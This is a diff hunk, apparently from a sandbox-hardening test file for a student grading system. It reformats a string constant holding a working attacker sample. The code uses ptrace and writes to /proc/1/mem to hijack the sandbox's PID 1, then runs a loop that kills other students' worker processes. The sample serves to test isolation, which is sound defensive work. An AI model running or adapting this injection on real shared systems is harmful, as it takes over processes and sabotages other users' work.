@@ -85,7 +85,72 @@ if _found:
 #: Takes over the sandbox's first process (found by a red-team review: as an ordinary user
 #: bubblewrap's own first process was the student's user's, which ``kill(-1)`` never reaches):
 #: it traces it and has it run a program that kills every later classmate's worker.
-INJECTOR = '# --- a1-attacker: turns the sandbox\'s PID 1 (bubblewrap\'s init, which every kill(-1) spares) into a spy\nimport ctypes as _ct, os as _os, sys as _sys\n\n_SPY = r\'\'\'\nimport os, time, signal\nwhile True:\n    try:\n        while os.waitpid(-1, os.WNOHANG)[0] > 0:\n            pass\n    except ChildProcessError:\n        pass\n    for p in os.listdir("/proc"):\n        if p.isdigit():\n            try:\n                ppid = int(open("/proc/%s/stat" % p).read().rsplit(")", 1)[1].split()[1])\n                gp = int(open("/proc/%d/stat" % ppid).read().rsplit(")", 1)[1].split()[1])\n                if gp == 2:\n                    os.kill(int(p), signal.SIGKILL)\n            except (OSError, ValueError, IndexError):\n                pass\n    time.sleep(0.002)\n\'\'\'\n\n\ndef _inject(spy, pid=1):\n    libc = _ct.CDLL(None, use_errno=True)\n    libc.ptrace.restype = _ct.c_long\n    libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]\n\n    def pt(req, data=None):\n        if libc.ptrace(req, pid, None, data) == -1:\n            raise OSError(_ct.get_errno(), "ptrace")\n\n    pt(0x4206)  # PTRACE_SEIZE\n    pt(0x4207)  # PTRACE_INTERRUPT\n    _os.waitpid(pid, 0x40000000)  # __WALL\n    regs = (_ct.c_ulong * 27)()\n    pt(12, _ct.addressof(regs))  # PTRACE_GETREGS\n    rip = regs[16]\n    strings = [_os.path.realpath(_sys.executable).encode(), b"-I", b"-S", b"-c", spy.encode()]\n    base, blob, ptrs = rip + 16, b"", []\n    for s in strings:\n        ptrs.append(base + len(blob))\n        blob += s + b"\\0"\n    blob += b"\\0" * (-len(blob) % 8)\n    argv = base + len(blob)\n    blob += b"".join(p.to_bytes(8, "little") for p in ptrs) + b"\\0" * 8\n    envp = base + len(blob)\n    blob += b"\\0" * 8\n    fd = _os.open("/proc/%d/mem" % pid, _os.O_RDWR)\n    _os.pwrite(fd, b"\\x0f\\x05", rip)  # a syscall instruction where it stands\n    _os.pwrite(fd, blob, base)\n    _os.close(fd)\n    # execve(python, [python, -I, -S, -c, SPY], []), and no restart of the interrupted call\n    regs[10], regs[14], regs[13], regs[12], regs[15] = 59, ptrs[0], argv, envp, (1 << 64) - 1\n    pt(13, _ct.addressof(regs))  # PTRACE_SETREGS\n    pt(17)  # PTRACE_DETACH\n\n\ntry:\n    _inject(_SPY)\nexcept Exception:\n    pass\n# --- end of the attacker\'s part; the reference follows\n'
+INJECTOR = r"""
+# a1-attacker: makes the sandbox's PID 1 (bubblewrap's init, spared by every kill(-1)) its own
+import ctypes as _ct, os as _os, sys as _sys
+
+_SPY = r'''
+import os, time, signal
+while True:
+    try:
+        while os.waitpid(-1, os.WNOHANG)[0] > 0:
+            pass
+    except ChildProcessError:
+        pass
+    for p in os.listdir("/proc"):
+        if p.isdigit():
+            try:
+                ppid = int(open("/proc/%s/stat" % p).read().rsplit(")", 1)[1].split()[1])
+                gp = int(open("/proc/%d/stat" % ppid).read().rsplit(")", 1)[1].split()[1])
+                if gp == 2:
+                    os.kill(int(p), signal.SIGKILL)
+            except (OSError, ValueError, IndexError):
+                pass
+    time.sleep(0.002)
+'''
+
+
+def _inject(spy, pid=1):
+    libc = _ct.CDLL(None, use_errno=True)
+    libc.ptrace.restype = _ct.c_long
+    libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]
+
+    def pt(req, data=None):
+        if libc.ptrace(req, pid, None, data) == -1:
+            raise OSError(_ct.get_errno(), "ptrace")
+
+    pt(0x4206)  # PTRACE_SEIZE
+    pt(0x4207)  # PTRACE_INTERRUPT
+    _os.waitpid(pid, 0x40000000)  # __WALL
+    regs = (_ct.c_ulong * 27)()
+    pt(12, _ct.addressof(regs))  # PTRACE_GETREGS
+    rip = regs[16]
+    strings = [_os.path.realpath(_sys.executable).encode(), b"-I", b"-S", b"-c", spy.encode()]
+    base, blob, ptrs = rip + 16, b"", []
+    for s in strings:
+        ptrs.append(base + len(blob))
+        blob += s + b"\0"
+    blob += b"\0" * (-len(blob) % 8)
+    argv = base + len(blob)
+    blob += b"".join(p.to_bytes(8, "little") for p in ptrs) + b"\0" * 8
+    envp = base + len(blob)
+    blob += b"\0" * 8
+    fd = _os.open("/proc/%d/mem" % pid, _os.O_RDWR)
+    _os.pwrite(fd, b"\x0f\x05", rip)  # a syscall instruction where it stands
+    _os.pwrite(fd, blob, base)
+    _os.close(fd)
+    # execve(python, [python, -I, -S, -c, SPY], []), and no restart of the interrupted call
+    regs[10], regs[14], regs[13], regs[12], regs[15] = 59, ptrs[0], argv, envp, (1 << 64) - 1
+    pt(13, _ct.addressof(regs))  # PTRACE_SETREGS
+    pt(17)  # PTRACE_DETACH
+
+
+try:
+    _inject(_SPY)
+except Exception:
+    pass
+# --- end of the attacker's part; the reference follows
+"""
 
 
 def _closed_ancestor(path: Path) -> Path | None:
